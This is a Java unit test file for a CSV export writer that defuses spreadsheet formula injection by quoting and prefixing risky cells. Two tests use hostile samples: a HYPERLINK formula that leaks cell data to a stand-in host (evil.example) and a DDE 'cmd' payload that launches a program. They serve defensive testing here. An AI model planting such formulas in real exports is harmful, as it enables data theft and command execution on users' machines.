package io.fileparser.jobs.boundary;

import static org.junit.jupiter.api.Assertions.assertEquals;

import io.fileparser.jobs.ResultPage;
import jakarta.ws.rs.core.MediaType;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class RecordWriterTest {

  private static final MediaType CSV = new MediaType("text", "csv");
  private static final MediaType NDJSON = new MediaType("application", "x-ndjson");

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "=1+2            | \"'=1+2\"",
        "+31 20 555 0100 | \"'+31 20 555 0100\"",
        "-12.5           | \"'-12.5\"",
        "@SUM(A1:A9)     | \"'@SUM(A1:A9)\"",
        "-               | \"'-\"",
        "==              | \"'==\""
      })
  void neutralisesEachFormulaTrigger(String value, String cell) {
    assertEquals(cell, RecordWriter.csvCell(value));
  }

  @Test
  void neutralisesALeadingTabOrCarriageReturn() {
    assertEquals("\"'\t=1+2\"", RecordWriter.csvCell("\t=1+2"));
    assertEquals("\"'\r=1+2\"", RecordWriter.csvCell("\r=1+2"));
  }

  @Test
  void quotesANeutralisedFormulaAsCsvRequires() {
    String dde = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click, please\")";

    assertEquals(
        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click, please\"\")\"",
        RecordWriter.csvCell(dde));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "12.5",
        "0",
        "Acme Corp",
        "a=b",
        "x-y",
        "1+1",
        "user@example.com",
        " =not first",
        "'quoted already",
        "2026-01-05"
      })
  void leavesOtherCellsUnchanged(String value) {
    assertEquals(value, RecordWriter.csvCell(value));
  }

  @Test
  void quotesCommasQuotesAndLineBreaksAsBefore() {
    assertEquals("\"a,b\"", RecordWriter.csvCell("a,b"));
    assertEquals("\"say \"\"hi\"\"\"", RecordWriter.csvCell("say \"hi\""));
    assertEquals("\"two\nlines\"", RecordWriter.csvCell("two\nlines"));
    assertEquals("\"two\r\nlines\"", RecordWriter.csvCell("two\r\nlines"));
  }

  @Test
  void csvExportNeutralisesHeaderAndValues() throws IOException {
    ResultPage page =
        ResultPage.of(
            List.of(
                "{\"=name\":\"=cmd|' /C calc'!A0\",\"amount\":-12.5,\"note\":\"ok\"}",
                "{\"=name\":\"Globex\",\"amount\":99.0,\"note\":\"@risk\"}"),
            List.of("=name", "amount", "note"),
            null);

    assertEquals(
        "\"'=name\",amount,note\r\n"
            + "\"'=cmd|' /C calc'!A0\",\"'-12.5\",ok\r\n"
            + "Globex,99.0,\"'@risk\"\r\n",
        render(page, CSV));
  }

  @Test
  void jsonAndNdjsonExportsAreNotAltered() throws IOException {
    String record = "{\"name\":\"=1+2\",\"amount\":-12.5,\"note\":\"@risk\"}";
    ResultPage page = ResultPage.of(List.of(record), List.of("name", "amount", "note"), null);

    assertEquals(record + "\n", render(page, NDJSON));
    assertEquals("{\"items\":[" + record + "]}", render(page, MediaType.APPLICATION_JSON_TYPE));
  }

  private static String render(ResultPage page, MediaType type) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    RecordWriter.body(page, type).write(out);
    return out.toString(StandardCharsets.UTF_8);
  }
}
